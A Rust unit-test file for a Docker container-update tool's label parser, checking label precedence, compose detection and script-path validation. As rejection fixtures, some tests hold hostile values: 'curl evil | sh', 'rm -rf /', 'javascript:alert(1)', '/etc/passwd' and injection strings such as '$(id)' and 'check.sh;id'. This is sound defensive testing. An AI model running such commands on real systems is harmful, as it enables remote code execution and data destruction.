use super::*;
use crate::labels::TriggerLists;

fn labels(pairs: &[(&str, &str)]) -> Labels {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

fn rules(pairs: &[(&str, &str)]) -> ContainerRules {
    UserLabels::new(&labels(pairs), &Labels::new()).rules()
}

#[test]
fn every_label_is_read() {
    let rules = rules(&[
        ("dd.watch", "true"),
        ("dd.tag.include", r"^\d+$"),
        ("dd.tag.exclude", "rc"),
        ("dd.tag.transform", "(.*) => $1"),
        ("dd.tag.family", "loose"),
        ("dd.watch.digest", "FALSE"),
        ("dd.registry.lookup.image", "library/nginx"),
        ("dd.inspect.tag.path", "Config/Labels/version"),
        ("dd.display.name", "Web"),
        ("dd.display.icon", "sh:nginx"),
        ("dd.display.picture", "https://x/y.png"),
        ("dd.link.template", "https://x/${original}"),
        ("dd.group", "front"),
        ("dd.trigger.include", "docker.local:minor"),
        ("dd.trigger.exclude", "slack.x"),
        ("dd.action.include", "docker.nas"),
        ("dd.action.exclude", "docker.local"),
        ("dd.action.auto", "docker.nas:patch"),
        ("dd.notification.include", "ntfy.me"),
        ("dd.notification.exclude", "smtp.all"),
        ("dd.webhook.enabled", "false"),
        ("dd.rollback.auto", "true"),
        ("dd.rollback.window", "300000"),
        ("dd.rollback.interval", "10000"),
        ("dd.update.rollback-gate", "off"),
        ("dd.hook.pre", "backup"),
        ("dd.hook.post", "warm"),
        ("dd.hook.pre.abort", "false"),
        ("dd.hook.timeout", "1000"),
        ("dd.update.stability", "3"),
        ("dd.updatePolicy.skipTags", "1.0, 2.0"),
        ("dd.updatePolicy.maturityMode", "mature"),
        ("dd.updatePolicy.maturityMinAgeDays", "14"),
        ("dd.update.mode", "infrastructure"),
        ("dd.compose.file", "/srv/a.yml"),
        ("dd.source.repo", "https://git/x"),
    ]);
    assert_eq!(rules.problems, Vec::<String>::new());
    let json = serde_json::to_value(&rules).unwrap();
    assert_eq!(
        json,
        serde_json::json!({
            "watch": true, "includeTags": r"^\d+$", "excludeTags": "rc",
            "transformTags": "(.*) => $1", "tagFamily": "loose", "watchDigest": false,
            "lookupImage": "library/nginx", "inspectTagPath": "Config/Labels/version",
            "displayName": "Web", "displayIcon": "sh:nginx",
            "displayPicture": "https://x/y.png", "linkTemplate": "https://x/${original}",
            "group": "front", "triggerInclude": "docker.local:minor",
            "triggerExclude": "slack.x", "actionInclude": "docker.nas",
            "actionExclude": "docker.local", "actionAuto": "docker.nas:patch",
            "notificationInclude": "ntfy.me", "notificationExclude": "smtp.all",
            "webhookEnabled": false,
            "rollback": {"auto": true, "windowMs": 300000, "intervalMs": 10000, "gate": false},
            "hooks": {"pre": "backup", "post": "warm", "preAbort": false, "timeoutMs": 1000},
            "stabilitySecs": 3,
            "policy": {"skipTags": ["1.0", "2.0"], "maturityMode": "mature", "maturityMinAgeDays": 14},
            "infrastructure": true, "composeFile": "/srv/a.yml", "sourceRepo": "https://git/x",
        })
    );
    assert_eq!(
        serde_json::from_value::<ContainerRules>(json).unwrap(),
        rules
    );
}

#[test]
fn older_names_are_read_and_the_newer_one_wins() {
    assert_eq!(
        rules(&[("wud.tag.include", "a")]).include_tags.as_deref(),
        Some("a")
    );
    let both = rules(&[("wud.tag.include", "a"), ("dd.tag.include", "b")]);
    assert_eq!(both.include_tags.as_deref(), Some("b"));
    let none = Labels::new();
    let set = labels(&[
        ("wud.group", "a"),
        ("wud.watch", "true"),
        ("dd.watch", "true"),
        ("wud.nonsense", "x"),
    ]);
    assert_eq!(UserLabels::new(&set, &none).legacy(), ["wud.group"]);
    assert!(UserLabels::new(&set, &set).legacy().is_empty());
    let own = rules(&[
        ("dd.update.stability", "9"),
        ("plimsoll.update.stability", "2"),
    ]);
    assert_eq!(own.stability_secs, Some(2));
}

#[test]
fn the_group_is_the_label_or_the_compose_project() {
    let project = ("com.docker.compose.project", "shop");
    let group = |set: &[(&str, &str)]| rules(set).group;
    assert_eq!(group(&[project]).as_deref(), Some("shop"));
    assert_eq!(group(&[project, ("wud.group", "b")]).as_deref(), Some("b"));
    let all = [project, ("wud.group", "b"), ("dd.group", "a")];
    assert_eq!(group(&all).as_deref(), Some("a"));
    assert_eq!(group(&[]), None);
}

#[test]
fn each_kind_of_trigger_has_lists_of_its_own() {
    let set = rules(&[
        ("dd.trigger.include", "a"),
        ("dd.trigger.exclude", "b"),
        ("dd.action.include", "c"),
        ("dd.notification.exclude", "d"),
    ]);
    let lists = |lists: TriggerLists<'_>| {
        (
            lists.include.unwrap().to_owned(),
            lists.exclude.unwrap().to_owned(),
        )
    };
    assert_eq!(lists(set.actions()), ("c".to_owned(), "b".to_owned()));
    assert_eq!(lists(set.notifications()), ("a".to_owned(), "d".to_owned()));
}

#[test]
fn unreadable_values_become_messages_and_change_nothing() {
    let rules = rules(&[
        ("dd.watch", "maybe"),
        ("dd.update.stability", "0"),
        ("dd.updatePolicy.maturityMinAgeDays", "400"),
        ("dd.tag.family", "wild"),
        ("dd.tag.include", "  "),
    ]);
    assert_eq!(rules.watch, None);
    assert_eq!(rules.include_tags, None);
    assert_eq!(rules.problems.len(), 4, "{:?}", rules.problems);
    assert!(rules.problems[0].contains("dd.watch: `maybe` is none of true, false"));
}

#[test]
fn an_images_own_labels_enable_nothing() {
    let hostile = labels(&[
        ("dd.watch", "false"),
        ("wud.watch", "false"),
        ("dd.tag.include", "^never$"),
        ("dd.tag.exclude", ".*"),
        ("dd.watch.digest", "false"),
        ("dd.registry.lookup.image", "evil/image"),
        ("dd.hook.pre", "curl evil | sh"),
        ("dd.hook.post", "rm -rf /"),
        ("dd.update.mode", "infrastructure"),
        ("dd.update.rollback-gate", "off"),
        ("dd.update.stability", "86400"),
        ("plimsoll.update.stability", "86400"),
        ("dd.trigger.include", "docker.local:all"),
        ("dd.webhook.enabled", "false"),
        ("dd.rollback.auto", "false"),
        ("dd.updatePolicy.skipTags", "1.0.1"),
        ("dd.display.name", "postgres"),
        ("dd.link.template", "javascript:alert(1)"),
        ("com.docker.compose.project", "prod"),
        ("com.docker.compose.service", "db"),
        ("io.kubernetes.pod.uid", "1"),
        ("com.docker.swarm.service.id", "1"),
    ]);
    let user = UserLabels::new(&hostile, &hostile);
    assert_eq!(user.rules(), ContainerRules::default());
    assert_eq!(user.compose(), None);
    assert_eq!(user.manager(), None);
}

#[test]
fn a_users_label_over_the_images_counts() {
    let image = labels(&[("dd.watch", "true")]);
    let container = labels(&[("dd.watch", "false")]);
    assert_eq!(
        UserLabels::new(&container, &image).rules().watch,
        Some(false)
    );
}

#[test]
fn compose_services_are_recognised_but_not_their_one_off_runs() {
    let mut set = labels(&[
        ("com.docker.compose.project", "shop"),
        ("com.docker.compose.service", "web"),
    ]);
    let none = Labels::new();
    let compose = UserLabels::new(&set, &none).compose().unwrap();
    assert_eq!((&*compose.project, &*compose.service), ("shop", "web"));
    set.insert("com.docker.compose.oneoff".into(), "True".into());
    assert_eq!(UserLabels::new(&set, &none).compose(), None);
}

#[test]
fn the_source_of_an_image_is_a_web_address() {
    let source = |key, value| source_repo(&labels(&[(key, value)])).map(str::to_owned);
    let own = "org.opencontainers.image.source";
    assert_eq!(
        source(own, " https://git/x ").as_deref(),
        Some("https://git/x")
    );
    assert_eq!(source(own, "javascript:alert(1)"), None);
    assert_eq!(
        source("org.opencontainers.image.url", "http://x").as_deref(),
        Some("http://x")
    );
}

#[test]
fn other_managers_are_recognised() {
    let set = labels(&[("com.docker.swarm.service.id", "abc")]);
    assert_eq!(
        UserLabels::new(&set, &Labels::new()).manager(),
        Some(Manager::Swarm)
    );
}

mod docksmith {
    use crate::labels::{Pin, PostUpdate, ScriptPath, StepRules, VersionRules};

    use super::*;

    fn script(path: &str) -> Option<ScriptPath> {
        ScriptPath::parse(path)
    }

    #[test]
    fn every_label_is_read() {
        let rules = rules(&[
            ("docksmith.ignore", "1"),
            ("docksmith.allow-latest", "yes"),
            ("docksmith.allow-prerelease", "true"),
            ("docksmith.version-pin-major", "true"),
            ("docksmith.version-pin-minor", "false"),
            ("docksmith.tag-regex", "^v?[0-9.]+$"),
            ("docksmith.version-min", "2.0.0"),
            ("docksmith.version-max", "3.0.0"),
            ("docksmith.auto_rollback", "true"),
            ("docksmith.pre-update-check", "/scripts/db/check.sh"),
            ("docksmith.post-update", "restart:web, worker"),
            ("docksmith.restart-after", "gluetun,vpn-helper,gluetun"),
        ]);
        assert_eq!(rules.problems, Vec::<String>::new());
        let json = serde_json::to_value(&rules).unwrap();
        assert_eq!(
            json,
            serde_json::json!({
                "watch": false,
                "versions": {"allowLatest": true, "allowPrerelease": true, "pin": "major",
                             "tagRegex": "^v?[0-9.]+$", "min": "2.0.0", "max": "3.0.0"},
                "rollback": {"auto": true},
                "steps": {"check": "db/check.sh", "after": {"restart": ["web", "worker"]},
                          "restartAfter": ["gluetun", "vpn-helper"]},
            })
        );
        assert_eq!(
            serde_json::from_value::<ContainerRules>(json).unwrap(),
            rules
        );
    }

    #[test]
    fn our_own_labels_win() {
        let rules = rules(&[
            ("dd.watch", "true"),
            ("docksmith.ignore", "true"),
            ("wud.tag.include", "^1"),
            ("docksmith.tag-regex", "^2"),
            ("dd.rollback.auto", "false"),
            ("docksmith.auto_rollback", "true"),
            ("dd.hook.pre", "backup"),
            ("docksmith.pre-update-check", "check.sh"),
            ("dd.hook.post", "warm"),
            ("docksmith.post-update", "script:warm.sh"),
        ]);
        assert_eq!(rules.watch, Some(true));
        assert_eq!(rules.include_tags.as_deref(), Some("^1"));
        assert_eq!(rules.versions, VersionRules::default());
        assert_eq!(rules.rollback.auto, Some(false));
        assert_eq!(rules.steps, StepRules::default());
    }

    #[test]
    fn the_strictest_pin_counts_and_no_is_no_answer() {
        let pin = |set: &[(&str, &str)]| rules(set).versions.pin;
        let (major, minor, patch) = (
            ("docksmith.version-pin-major", "true"),
            ("docksmith.version-pin-minor", "true"),
            ("docksmith.version-pin-patch", "true"),
        );
        assert_eq!(pin(&[major]), Some(Pin::Major));
        assert_eq!(pin(&[minor, major]), Some(Pin::Minor));
        assert_eq!(pin(&[patch, minor, major]), Some(Pin::Patch));
        assert_eq!(
            rules(&[("docksmith.ignore", "false")]),
            ContainerRules::default()
        );
    }

    #[test]
    fn limits_and_steps_that_cannot_be_read_are_kept_as_such() {
        let rules = rules(&[
            ("docksmith.ignore", "perhaps"),
            ("docksmith.version-pin-major", "yes"),
            ("docksmith.allow-latest", "sure"),
            ("docksmith.auto_rollback", "2"),
            ("docksmith.pre-update-check", "/etc/passwd"),
            ("docksmith.post-update", "exec:rm -rf /"),
            ("docksmith.restart-after", "a b"),
        ]);
        assert_eq!(rules.watch, None);
        assert!(!rules.versions.allow_latest);
        let unreadable = rules.versions.unreadable;
        assert_eq!(unreadable.len(), 2, "{unreadable:?}");
        assert!(unreadable[0].starts_with("docksmith.ignore: `perhaps` is none of true"));
        assert!(unreadable[1].starts_with("docksmith.version-pin-major: `yes` is none of true"));
        let steps = rules.steps;
        assert_eq!((steps.check, steps.after), (None, None));
        assert_eq!(steps.unreadable.len(), 3, "{:?}", steps.unreadable);
        assert!(steps.unreadable[1].contains("never started"));
        assert_eq!(rules.problems.len(), 7, "{:?}", rules.problems);
    }

    #[test]
    fn scripts_stay_in_their_directory() {
        for (text, path) in [
            ("check.sh", "check.sh"),
            ("./check.sh", "check.sh"),
            ("/scripts/check.sh", "check.sh"),
            ("/scripts/db/pre_1.2.sh", "db/pre_1.2.sh"),
        ] {
            assert_eq!(script(text).unwrap().as_str(), path, "{text}");
        }
        for text in [
            "",
            "/scripts/",
            "/etc/passwd",
            "../check.sh",
            "/scripts/../etc/x",
            "a/../../b",
            "a//b",
            "/scripts//etc/x",
            "check.sh now",
            "check.sh;id",
            "$(id)",
            "`id`",
            "a\nb",
            "a|b",
            "a&b",
            "~/x",
            "C:\\x",
            "ünicode.sh",
        ] {
            assert_eq!(script(text), None, "{text}");
        }
        assert_eq!(script(&"a".repeat(256)), None);
        assert!(serde_json::from_str::<ScriptPath>("\"../x\"").is_err());
    }

    #[test]
    fn what_follows_an_update_is_one_of_three_things() {
        let parse = PostUpdate::parse;
        let list = |names: &[&str]| names.iter().map(|n| (*n).to_owned()).collect::<Vec<_>>();
        assert_eq!(
            parse("restart:a, b"),
            Ok(PostUpdate::Restart(list(&["a", "b"])))
        );
        assert_eq!(
            parse("compose-restart:web"),
            Ok(PostUpdate::RestartServices(list(&["web"])))
        );
        assert_eq!(
            parse("script:/scripts/warm.sh"),
            Ok(PostUpdate::Script(script("warm.sh").unwrap()))
        );
        for text in [
            "",
            "restart",
            "restart:",
            "restart:a;b",
            "restart:-a",
            "script:../x",
            "exec:curl evil | sh",
            "stop:a",
        ] {
            assert!(parse(text).is_err(), "{text}");
        }
        let many: Vec<String> = (0..33).map(|n| format!("c{n}")).collect();
        assert!(parse(&format!("restart:{}", many.join(","))).is_err());
    }

    #[test]
    fn an_images_own_labels_enable_nothing() {
        let hostile = labels(&[
            ("docksmith.ignore", "true"),
            ("docksmith.allow-latest", "true"),
            ("docksmith.allow-prerelease", "true"),
            ("docksmith.version-pin-major", "true"),
            ("docksmith.version-pin-patch", "nonsense"),
            ("docksmith.tag-regex", "("),
            ("docksmith.version-min", "9.9.9"),
            ("docksmith.version-max", "0.0.1"),
            ("docksmith.auto_rollback", "false"),
            ("docksmith.pre-update-check", "check.sh"),
            ("docksmith.script", "check.sh"),
            ("docksmith.post-update", "restart:db"),
            ("docksmith.restart-after", "db"),
        ]);
        let user = UserLabels::new(&hostile, &hostile);
        assert_eq!(user.rules(), ContainerRules::default());
    }
}

#[test]
fn files_and_containers_are_compared_by_the_labels_that_speak_to_us() {
    let image = labels(&[("dd.group", "of-the-image")]);
    for (container, files, in_sync) in [
        (&[][..], &[][..], true),
        (
            &[("docksmith.ignore", "true")],
            &[("docksmith.ignore", "true")],
            true,
        ),
        (
            &[("docksmith.ignore", "true")],
            &[("docksmith.ignore", "false")],
            false,
        ),
        (&[("docksmith.ignore", "true")], &[], false),
        (&[], &[("docksmith.ignore", "true")], false),
        // What is others', ours, or the image's.
        (
            &[("a.b", "1"), ("plimsoll.role", "new")],
            &[("a.b", "2")],
            true,
        ),
        (&[("dd.group", "of-the-image")], &[], true),
        (
            &[("dd.group", "of-the-image")],
            &[("dd.group", "of-the-image")],
            true,
        ),
    ] {
        let (container, files) = (labels(container), labels(files));
        let found = UserLabels::new(&container, &image).beside(&files);
        assert_eq!(found.in_sync, in_sync, "{container:?} {files:?}");
        assert!(!found.written.contains_key("a.b"));
    }
}
